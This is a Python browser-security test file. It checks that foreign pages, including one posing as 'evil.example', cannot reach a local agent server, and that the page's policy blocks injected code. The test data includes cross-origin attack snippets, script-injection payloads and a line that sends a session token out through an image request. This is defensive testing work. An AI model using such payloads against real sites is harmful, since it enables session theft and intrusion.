"""Pages of others while somebody is logged in: whatever they try, the agent and its page give them nothing."""

from __future__ import annotations

from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from playwright.sync_api import Browser, Page

from launch import chromium
from tests.browser.shared_network import SharedNetwork
from tests.browser.window import Window
from tests.chromium import FLAGS, Watch
from tests.processes import until

# What a page can do to reach a server by itself: each gives "got in", or how it ended.
TRIES = {
    "WebSocket": """(base, token) => new Promise((resolve) => {
        const socket = new WebSocket(base.replace("http", "ws") + "/socket.io/?EIO=4&transport=websocket");
        socket.onmessage = ({ data }) => {
            if (data.startsWith("0")) socket.send("40" + JSON.stringify({ token }));
            if (data.startsWith("40")) resolve("got in");
        };
        socket.onerror = () => resolve("refused");
    })""",
    "fetch": "(base) => fetch(base + '/').then(() => 'got in', () => 'refused')",
    "blind fetch": """(base) => fetch(base + '/static/js/main.js', { mode: 'no-cors' })
        .then(() => 'got in', () => 'refused')""",
    "long polling": """(base) => fetch(base + '/socket.io/?EIO=4&transport=polling')
        .then(() => 'got in', () => 'refused')""",
    "blind post": """(base) => fetch(base + '/socket.io/?EIO=4&transport=polling', { method: 'POST', mode: 'no-cors' })
        .then(() => 'got in', () => 'refused')""",
    "window": """(base) => new Promise((resolve) => {
        const other = open(base + "/", "_blank");
        const look = () => {
            if (other.closed) return "refused"; // its own policy cuts it off from who opened it
            try { return other.document.querySelector("#page") && "got in"; } catch { return null; }
        };
        const timer = setInterval(() => { if (look()) { resolve(look()); clearInterval(timer); } }, 20);
        setTimeout(() => resolve("holds it"), 5000); // ms; what opens it takes one
    })""",
}


class _Blank(SimpleHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>elsewhere</title><link rel=icon href=data:,>")

    def log_message(self, format: str, *arguments: object) -> None:
        pass


@pytest.fixture(scope="module")
def misled(browser: Browser) -> Iterator[Browser]:
    """A browser for which evil.example is this machine, as a name server of somebody's can tell it."""
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    running = browser.browser_type.launch(executable_path=chromium.find(), args=[*FLAGS, rules])
    yield running
    running.close()


@pytest.fixture(scope="module")
def server() -> Iterator[int]:
    """The port of another server on this machine."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Blank) as running:
        Thread(target=running.serve_forever, daemon=True).start()
        yield running.server_port
        running.shutdown()


def attempt(page: Page, what: str, base: str, token: str) -> str:
    """From a click on the page, as only then a page may open a window."""
    outcome: str = page.evaluate(f"([base, token]) => ({TRIES[what]})(base, token)", [base, token])
    return outcome


@pytest.mark.parametrize("origin", ["http://localhost:{}/", "http://evil.example:{}/"])
def test_a_foreign_page_gets_nothing_even_with_the_token(
    shared_network: SharedNetwork, misled: Browser, server: int, origin: str
) -> None:
    agent = shared_network.people["sara"]
    page = misled.new_page()
    page.goto(origin.format(server))
    assert page.title() == "elsewhere"
    for host in ("localhost", "127.0.0.1"):
        base = f"http://{host}:{agent.port}"
        outcomes = {what: attempt(page, what, base, agent.api_token) for what in TRIES}
        assert outcomes == dict.fromkeys(TRIES, "refused"), base
    page.context.close()


def test_the_own_page_gets_in_by_the_same_ways(shared_network: SharedNetwork, page: Page) -> None:
    """The tries are good ones: it is for their origin that the others fail."""
    agent = shared_network.people["sara"]
    window = Window(page, agent).come_in()
    base = window.address.rstrip("/")
    for what in ("WebSocket", "fetch", "blind fetch", "window"):
        assert attempt(page, what, base, agent.api_token) == "got in", what


INJECTED = {
    "script": """const script = document.createElement("script");
        script.append("document.title = 'ran'");
        document.body.append(script);""",
    "handler": """const image = document.createElement("img");
        image.setAttribute("onerror", "document.title = 'ran'");
        image.src = "/nothing-here";""",
    "link": """const link = document.createElement("a");
        link.setAttribute("href", "javascript:document.title='ran'");
        document.body.append(link);
        link.click();""",
    "frame": """const frame = document.createElement("iframe");
        frame.src = "data:text/html,<script>top.postMessage(1)</script>";
        document.body.append(frame);""",
    "image from elsewhere": "new Image().src = 'http://127.0.0.1:1/?' + sessionStorage.getItem('hamraz.token');",
    "markup": "document.body.innerHTML = '<b>bold</b>';",
    "evaluation": "eval(\"document.title = 'ran'\");",
}


def test_what_is_injected_into_a_page_with_a_session_does_not_run(
    shared_network: SharedNetwork, page: Page, watch: Watch
) -> None:
    watch.allow("(?i)content security policy|trusted")
    window = Window(page, shared_network.people["sara"]).come_in()
    for what, script in INJECTED.items():
        watch.problems.clear()
        # In a task of the page's own: what the debugger calls itself may evaluate text.
        trial = f"try {{ {script} }} catch (error) {{ console.error(String(error)); }} end();"
        page.evaluate(f"() => new Promise((end) => setTimeout(() => {{ {trial} }}))")
        until(lambda: page.title() and watch.problems, what=f"the browser's word that it has blocked the {what}")
        assert watch.unexpected() == [], what
    window.begin("jose")  # the page lives on
    assert page.title() != "ran"
